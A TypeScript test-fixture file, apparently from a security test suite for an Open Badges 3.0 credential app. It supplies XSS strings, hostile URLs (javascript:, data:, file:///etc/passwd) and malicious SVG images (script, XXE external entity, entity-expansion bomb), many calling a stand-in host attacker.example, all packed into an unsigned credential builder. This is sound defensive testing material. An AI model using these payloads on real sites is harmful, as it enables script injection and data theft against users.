/**
 * What the hostile drills throw at the app: strings for the badge's text fields, URLs for its link
 * fields, badge images that try to run or fetch something, and the unsigned OB 3.0 credential that
 * carries them. Every payload tries to reach out: it sets the sentinel `window.__pwned` (or the top
 * window's), opens a dialog, or points at ATTACKER_ORIGIN, which must never be requested.
 *
 * The credential's issuer id is on ISSUER_HOST: verification may ask for it (that is "asked to
 * check"); every URL in a display-only field points at ATTACKER_HOST.
 */

/** The one origin a badge's display-only URLs point at: any request to it is a finding. */
export const ATTACKER_HOST = 'attacker.example';
export const ATTACKER_ORIGIN = `https://${ATTACKER_HOST}`;
/** The issuer's host: its documents may be asked for by verification. */
export const ISSUER_HOST = 'issuer.example';

/** A text payload: what goes in the field, and a part of it that must be shown as text wherever the field is shown. */
export interface HostileText {
  readonly label: string;
  readonly text: string;
  /**
   * A substring that survives Markdown (emphasis, autolinks and character references change the
   * rest): the text of a Markdown field must contain it.
   */
  readonly shown: string;
}

/** Elements a payload injects carry `data-pwn`, so that one that made it into the page is easy to find. */
const PWN = 'window.__pwned=1';
const TOP = 'top.__pwned=1';

export const HOSTILE_TEXTS: readonly HostileText[] = [
  { label: 'script element', text: `<script>${PWN};fetch('${ATTACKER_ORIGIN}/script')</script>`, shown: '<script>' },
  { label: 'img onerror', text: `<img src=x onerror="${PWN};alert(1)" data-pwn>`, shown: 'onerror=' },
  { label: 'attribute breakout', text: `"><img src=x onerror=${PWN} data-pwn>'><svg/onload=${PWN}>`, shown: '"><img src=x' },
  { label: 'CSS escape', text: `</style><style data-pwn>*{background:url(${ATTACKER_ORIGIN}/css)}</style><script>${PWN}</script>`, shown: '</style><style' },
  { label: 'style attribute', text: `x" style="background:url(${ATTACKER_ORIGIN}/style-attr);behavior:url(x.htc)" data-pwn="`, shown: 'style="background:url(' },
  {
    label: 'Markdown links',
    text: `[click me](javascript:${PWN}) [data](data:text/html,<script>${PWN}</script>) [vb](vbscript:msgbox(1)) ![pixel](${ATTACKER_ORIGIN}/pixel.png) <javascript:alert(1)>`,
    shown: 'click me',
  },
  { label: 'iframe srcdoc', text: `<iframe data-pwn src="javascript:${TOP}" srcdoc="<script>${TOP}</script>"></iframe>`, shown: '<iframe' },
  {
    label: 'meta refresh, base, link',
    text: `<meta http-equiv="refresh" content="0;url=${ATTACKER_ORIGIN}/refresh"><base href="${ATTACKER_ORIGIN}/"><link rel="stylesheet" href="${ATTACKER_ORIGIN}/x.css">`,
    shown: '<meta http-equiv=',
  },
  { label: 'mutation XSS', text: `<noscript><p title="</noscript><img src=x onerror=${PWN} data-pwn>"><math><mtext><table><mglyph><style><img src=x onerror=${PWN} data-pwn>`, shown: '<noscript>' },
  { label: 'template syntax', text: `{{constructor.constructor('${PWN}')()}} \${${PWN}} {issuer} {name} %s %n`, shown: '{{constructor' },
  { label: 'character references', text: `&lt;script&gt;${PWN}&lt;/script&gt; &#x3C;img src=x onerror=${PWN}&#x3E; &#0; &#xD800;`, shown: 'script' },
  { label: 'direction overrides', text: `\u202Egnp.exe\u202C Harvard \u2067evil\u2069 \u202Dok\u202C \u200F\u061C end \u202E`, shown: 'Harvard' },
  { label: 'look-alikes', text: 'Ηаrvаrd Unіvеrsіty — Ρаypаl', shown: 'Unіvеrsіty' },
  { label: 'zero-width and control characters', text: `safe\u200B\u200C\u200D\uFEFFname\u0000\u0007\u001b[31mred\u0085\u2028\u2029 end`, shown: 'safe' },
  { label: 'javascript: URL as text', text: `javascript:${PWN}`, shown: 'javascript:' },
  { label: 'Zalgo', text: `Z${'\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307'.repeat(40)}algo`, shown: 'algo' },
];

/** URLs for link and image fields (criteria, evidence, alignment, issuer site, images). */
export const HOSTILE_URLS: readonly string[] = [
  `javascript:${PWN}`,
  `data:text/html,<script>${TOP}</script>`,
  'vbscript:msgbox("pwned")',
  `${ATTACKER_ORIGIN}/link`,
  `JaVaScRiPt:${PWN}`,
  `java\tscript:${PWN}`,
  `\u0001javascript:${PWN}`,
  `data:text/html;base64,${Buffer.from(`<script>${TOP}</script>`).toString('base64')}`,
  `//${ATTACKER_HOST}/protocol-relative`,
  `https://${ISSUER_HOST}@${ATTACKER_HOST}/userinfo`,
  'https://аttacker.example/look-alike',
  `http://${ATTACKER_HOST}/plain-http`,
  `${ATTACKER_ORIGIN}/"><img src=x onerror=${PWN} data-pwn>`,
  'file:///etc/passwd',
];

/** Hostile SVG badge images: each tries to run a script or fetch something when shown. */
export const HOSTILE_SVGS: readonly { readonly label: string; readonly svg: string }[] = [
  {
    label: 'script',
    svg: `<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><script>${PWN};${TOP};alert(1);fetch('${ATTACKER_ORIGIN}/svg-script')</script><rect width="64" height="64" fill="teal"/></svg>`,
  },
  {
    label: 'onload',
    svg: `<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" onload="${TOP};fetch('${ATTACKER_ORIGIN}/svg-onload')"><rect width="64" height="64" fill="navy" onclick="${TOP}"/></svg>`,
  },
  {
    label: 'foreignObject',
    svg:
      `<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><foreignObject width="64" height="64">` +
      `<div xmlns="http://www.w3.org/1999/xhtml"><img src="${ATTACKER_ORIGIN}/fo.png" onerror="${TOP}"/>` +
      `<iframe src="${ATTACKER_ORIGIN}/fo-frame"></iframe><meta http-equiv="refresh" content="0;url=${ATTACKER_ORIGIN}/fo-refresh"/>` +
      `<script>${TOP}</script></div></foreignObject></svg>`,
  },
  {
    label: 'external hrefs',
    svg:
      `<?xml-stylesheet href="${ATTACKER_ORIGIN}/pi.css" type="text/css"?>` +
      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64">` +
      `<style>@import url(${ATTACKER_ORIGIN}/import.css); rect{fill:url(${ATTACKER_ORIGIN}/fill.svg#p)} @font-face{font-family:x;src:url(${ATTACKER_ORIGIN}/font.woff2)} text{font-family:x}</style>` +
      `<image href="${ATTACKER_ORIGIN}/image.png" width="10" height="10"/><image xlink:href="${ATTACKER_ORIGIN}/xlink.png" width="10" height="10"/>` +
      `<use href="${ATTACKER_ORIGIN}/sprite.svg#a"/><filter id="f"><feImage href="${ATTACKER_ORIGIN}/fe.png"/></filter>` +
      `<a href="javascript:${TOP}"><rect width="64" height="64" filter="url(#f)"/></a><text>x</text>` +
      `<script href="${ATTACKER_ORIGIN}/x.js"/></svg>`,
  },
  {
    label: 'entity expansion',
    svg:
      `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">` +
      Array.from({ length: 9 }, (_, i) => `<!ENTITY ${String.fromCharCode(98 + i)} "${`&${String.fromCharCode(97 + i)};`.repeat(10)}">`).join('') +
      `]><svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><text y="20">&j;</text></svg>`,
  },
  {
    label: 'external entity',
    svg: `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "${ATTACKER_ORIGIN}/xxe"><!ENTITY % p SYSTEM "${ATTACKER_ORIGIN}/dtd"> %p;]><svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><text y="20">&xxe;</text></svg>`,
  },
  {
    label: 'animated javascript: href',
    svg:
      `<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><a><animate attributeName="href" values="javascript:${TOP}"/><rect width="64" height="64"/></a>` +
      `<set attributeName="onload" to="${TOP}"/><animate attributeName="onbegin" values="${TOP}" begin="0s" onbegin="${TOP}"/></svg>`,
  },
];

/** The SVG drills bake into when the image itself is not the attack. */
export const PLAIN_SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" viewBox="0 0 64 64"><circle cx="32" cy="32" r="30" fill="#8a4b14"/></svg>';

const VC_V2 = 'https://www.w3.org/ns/credentials/v2';
const OB_V3 = 'https://purl.imsglobal.org/spec/ob/v3p0/context-3.0.3.json';

/** What goes into one credential's fields. */
export interface CredentialFields {
  /** Unique within a drill (the credential id, so no two are duplicates of each other). */
  readonly key: string;
  readonly text: string;
  readonly url: string;
  /** The badge image's id (a URL or a data: URI); none when absent. */
  readonly image?: string;
  /** Extra members merged into the achievement (deep nesting…). */
  readonly extra?: Readonly<Record<string, unknown>>;
}

/** The parts of the credential a drill changes after making it. */
export interface CredentialDoc {
  [member: string]: unknown;
  name: string;
  issuer: { name: string; [member: string]: unknown };
  credentialSubject: {
    narrative: string;
    achievement: {
      name: string;
      description: string;
      criteria: { id: string; narrative: string };
      alignment: { targetName: string; targetDescription: string; [member: string]: unknown }[];
      [member: string]: unknown;
    };
    [member: string]: unknown;
  };
  evidence: ({ id: string; name: string; narrative: string; [member: string]: unknown } | string)[];
}

/**
 * An unsigned OB 3.0 credential with `text` in every text field and `url` in every link field (the
 * shape of tests/ui/support.tsx's `credential()`). Unsigned, it is staged as "not valid" and shown
 * when the earner keeps it; the viewer of a share link shows it as it is.
 */
export function hostileCredential({ key, text, url, image, extra }: CredentialFields): CredentialDoc {
  const imageObject = image === undefined ? {} : { image: { id: image, type: 'Image', caption: text } };
  return {
    '@context': [VC_V2, OB_V3],
    id: `urn:uuid:${key}`,
    type: ['VerifiableCredential', 'OpenBadgeCredential'],
    issuer: { id: `https://${ISSUER_HOST}/profile`, type: ['Profile'], name: text, url, email: text, ...(image === undefined ? {} : { image: { id: image, type: 'Image' } }) },
    validFrom: '2024-05-01T00:00:00Z',
    name: text,
    description: text,
    credentialSubject: {
      type: ['AchievementSubject'],
      narrative: text,
      achievement: {
        id: `https://${ISSUER_HOST}/achievements/${encodeURIComponent(key)}`,
        type: ['Achievement'],
        name: text,
        description: text,
        criteria: { id: url, narrative: text },
        achievementType: text,
        tag: [text, 'plain tag'],
        alignment: [{ type: ['Alignment'], targetName: text, targetUrl: url, targetDescription: text, targetFramework: text, targetCode: text }],
        ...imageObject,
        ...extra,
      },
    },
    evidence: [{ id: url, type: ['Evidence'], name: text, description: text, narrative: text }],
  };
}

/** A plain credential (benign words) for drills where the attack is elsewhere (the image, the PNG). */
export function plainCredential(key: string, name: string, extra?: Readonly<Record<string, unknown>>): CredentialDoc {
  return hostileCredential({ key, text: name, url: `https://${ISSUER_HOST}/criteria`, ...(extra ? { extra } : {}) });
}

/** `{"a":` … or `[` … nested `depth` times, as JSON text (built as text: a serialiser would overflow its stack). */
export function nestedJson(depth: number, kind: 'array' | 'object'): string {
  return kind === 'array' ? `${'['.repeat(depth)}${']'.repeat(depth)}` : `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
}

/** The credential's JSON with `marker`'s JSON string replaced by raw JSON text. */
export function spliceJson(doc: unknown, marker: string, raw: string): string {
  const json = JSON.stringify(doc);
  const quoted = JSON.stringify(marker);
  if (!json.includes(quoted)) throw new Error(`no ${marker} in the document`);
  return json.split(quoted).join(raw);
}

/** A string of about `bytes` bytes made of `unit` repeated. */
export const repeatTo = (unit: string, bytes: number): string => unit.repeat(Math.ceil(bytes / Buffer.byteLength(unit)));
